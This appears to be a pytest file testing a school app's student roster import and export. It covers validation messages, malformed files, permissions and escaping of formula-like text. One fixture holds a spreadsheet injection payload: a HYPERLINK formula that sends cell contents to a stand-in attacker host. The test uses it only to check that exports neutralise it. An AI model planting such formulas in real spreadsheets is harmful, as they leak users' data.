"""Roster import (.xlsx / .csv) with per-row Chinese errors and all-or-nothing; .xlsx exports."""

import io

import pytest
from openpyxl import Workbook, load_workbook

from xgapp.students import transfer
from xgapp.students.models import Student
from tests.conftest import csrf_from, login, make_user
from tests.factories import advisor, make_contract, make_student

HEADER = transfer.COLUMNS


def _xlsx(rows, merged=None, formula=False):
    book = Workbook()
    sheet = book.active
    sheet.append(HEADER)
    for row in rows:
        sheet.append(row)
    if merged:
        sheet.merge_cells(merged)
    if formula:
        sheet["D2"] = "=A2&\"小学\""
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _row(name="张小明", adv="adv1", mobile="13812345678", **kw):
    row = dict(zip(HEADER, [name, "男", "2015-03-08", "海淀实验小学", "五年级", adv, "热线电话", "张妈妈", "母亲", mobile,
                            "", "是", "否", ""]))
    row.update(kw)
    return [row[c] for c in HEADER]


def _upload(client, data, filename="roster.xlsx"):
    token = csrf_from(client.get("/students/import").get_data(as_text=True))
    return client.post("/students/import", data={"csrf_token": token, "file": (io.BytesIO(data), filename)},
                       content_type="multipart/form-data")


def test_template_has_the_columns_and_a_valid_example(app):
    advisor("advisor1")
    sheet = load_workbook(io.BytesIO(transfer.template())).active
    assert [c.value for c in sheet[1]] == HEADER
    parsed, errors = transfer.parse("t.xlsx", transfer.template())
    assert errors == {} and parsed[0][1]["name"] == "张小明"


def test_each_bad_row_is_reported_in_chinese_and_nothing_is_imported(app):
    advisor("adv1")
    make_student(name="老学员", mobile="13900000000")
    data = _xlsx([_row(), _row("李四", mobile="12345"), _row("王五", adv="nobody", mobile="13811112222"),
                  _row("赵六", mobile="13900000000"), _row("钱七", mobile="13812345678"),
                  _row("孙八", mobile="13833334444", **{"年级": "大一"})])
    with app.test_request_context():  # messages in the campus language, as a user sees them
        parsed, errors = transfer.parse("r.xlsx", data)
    assert sorted(errors) == [3, 4, 5, 6, 7]
    assert errors[3] == ["手机号“12345”不是 11 位大陆手机号。"]
    assert errors[4] == ["找不到学管师“nobody”。"]
    assert errors[5] == ["手机号 13900000000 已登记（重复家庭）。"]
    assert errors[6] == ["手机号 13812345678 与第 2 行重复。"]
    assert errors[7] == ["未知的年级“大一”。"]
    assert Student.select().count() == 1


@pytest.mark.parametrize("kind", ["columns", "merged", "formula", "too_many", "not_excel", "broken_xml"])
def test_malformed_workbooks_give_a_clear_report(app, kind):
    advisor("adv1")
    if kind == "columns":
        book = Workbook()
        book.active.append(["名字", "电话"])
        out = io.BytesIO()
        book.save(out)
        data = out.getvalue()
    elif kind == "merged":
        data = _xlsx([_row(), _row("李四", mobile="13811112222")], merged="A2:A3")
    elif kind == "formula":
        data = _xlsx([_row()], formula=True)
    elif kind == "too_many":
        data = _xlsx([_row("学生%d" % i, mobile="138%08d" % i) for i in range(10000)])
    elif kind == "broken_xml":  # a real zip whose sheet XML is cut off
        import zipfile

        good, out = zipfile.ZipFile(io.BytesIO(_xlsx([_row()]))), io.BytesIO()
        with zipfile.ZipFile(out, "w") as bad:
            for item in good.infolist():
                body = good.read(item)
                bad.writestr(item, body[: len(body) // 2] if item.filename.endswith("sheet1.xml") else body)
        data = out.getvalue()
    else:
        data = b"PK\x03\x04 definitely not a workbook"
    with pytest.raises(transfer.ImportProblem) as caught, app.test_request_context():
        transfer.parse("r.xlsx", data)
    message = str(caught.value)
    expected = {"columns": "缺少", "merged": "合并单元格", "formula": "公式", "too_many": "10000",
                "not_excel": ".xlsx", "broken_xml": ".xlsx"}[kind]
    assert expected in message, message
    assert Student.select().count() == 0


def test_import_over_http_previews_then_imports_all(app, client):
    advisor("adv1")
    make_user("sup", roles=("supervisor",))
    login(client, "sup")
    data = _xlsx([_row(), _row("李四", mobile="13811112222")])
    response = _upload(client, data)
    html = response.get_data(as_text=True)
    assert response.status_code == 200 and "2 名学员可以导入" in html and Student.select().count() == 0
    token = html.split('name="token" value="')[1].split('"')[0]
    response = client.post("/students/import/confirm", data={"csrf_token": csrf_from(html), "token": token})
    assert response.status_code == 303
    assert sorted(s.name for s in Student.select()) == ["张小明", "李四"]


def test_csv_in_gbk_is_accepted(app):
    advisor("adv1")
    text = ",".join(HEADER) + "\n" + ",".join(_row()) + "\n"
    parsed, errors = transfer.parse("r.csv", text.encode("gb18030"))
    assert errors == {} and parsed[0][1]["name"] == "张小明"


def test_a_damaged_csv_is_a_clear_report(app):
    text = ",".join(HEADER) + "\n" + "\"" + "长" * 200_000 + "\n"  # an unclosed quote swallows the rest
    with pytest.raises(transfer.ImportProblem) as caught, app.test_request_context():
        transfer.parse("r.csv", text.encode("utf-8"))
    assert "CSV" in str(caught.value) and "第 2 行" in str(caught.value)


def test_import_with_errors_over_http_is_422(app, client):
    advisor("adv1")
    make_user("sup", roles=("supervisor",))
    login(client, "sup")
    response = _upload(client, _xlsx([_row(mobile="123")]))
    assert response.status_code == 422 and "没有导入任何数据" in response.get_data(as_text=True)


def test_advisors_cannot_import(login_as):
    assert login_as("advisor").get("/students/import").status_code == 403


def test_exports_are_real_workbooks(app, client):
    student = make_student(name="导出生", advisor_user=advisor("adv1"))
    make_contract(student, hours="10", unit_price="100")
    login(client)
    response = client.get("/students/export.xlsx")
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert [c.value for c in sheet[2]][:1] == ["导出生"]
    response = client.get("/contracts/export.xlsx")
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert sheet["B2"].value == "导出生" and float(sheet["I2"].value) == 1000.0


HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def test_text_that_looks_like_a_formula_is_exported_as_text(app, client):
    student = make_student(name="导出生", school=HYPERLINK, notes="@SUM(1+1)", advisor_user=advisor("adv1"))
    make_contract(student, subject="-数学", hours="10", unit_price="100")
    login(client)
    sheet = load_workbook(io.BytesIO(client.get("/students/export.xlsx").data)).active
    school, notes = sheet.cell(2, HEADER.index("学校") + 1), sheet.cell(2, HEADER.index("备注") + 1)
    assert (school.value, school.data_type) == (HYPERLINK, "s") and school.quotePrefix
    assert (notes.value, notes.data_type) == ("@SUM(1+1)", "s") and notes.quotePrefix
    sheet = load_workbook(io.BytesIO(client.get("/contracts/export.xlsx").data)).active
    assert (sheet["D2"].value, sheet["D2"].data_type) == ("-数学", "s")
    assert sheet["I2"].data_type == "n"  # numbers stay numbers


def test_the_workbook_helper_keeps_numbers_and_dates_and_drops_control_characters(app):
    from datetime import date
    from decimal import Decimal

    from xgapp import sheets

    book = sheets.workbook()
    sheets.append(book.active, ["=1+1", "+86 138", "铃\x07声", Decimal("12.50"), 3, date(2026, 12, 2), None, "普通"])
    row = load_workbook(io.BytesIO(sheets.saved(book))).active[1]
    assert [(c.value, c.data_type) for c in row[:3]] == [("=1+1", "s"), ("+86 138", "s"), ("铃 声", "s")]
    assert [c.data_type for c in row[3:6]] == ["n", "n", "d"] and row[6].value is None and not row[7].quotePrefix
    book = sheets.workbook()
    book.active["A1"] = "=2+2"  # written past the helper: still saved as text
    cell = load_workbook(io.BytesIO(sheets.saved(book))).active["A1"]
    assert (cell.value, cell.data_type) == ("=2+2", "s")


def test_every_workbook_the_app_writes_goes_through_the_shared_helper():
    from pathlib import Path

    import xgapp

    root = Path(xgapp.__file__).parent
    bypass = [str(path.relative_to(root)) for path in root.rglob("*.py")
              if path.name != "sheets.py" and "Workbook" in path.read_text(encoding="utf-8")]
    assert bypass == []  # a new .xlsx writer uses sheets.workbook() / append() / saved()
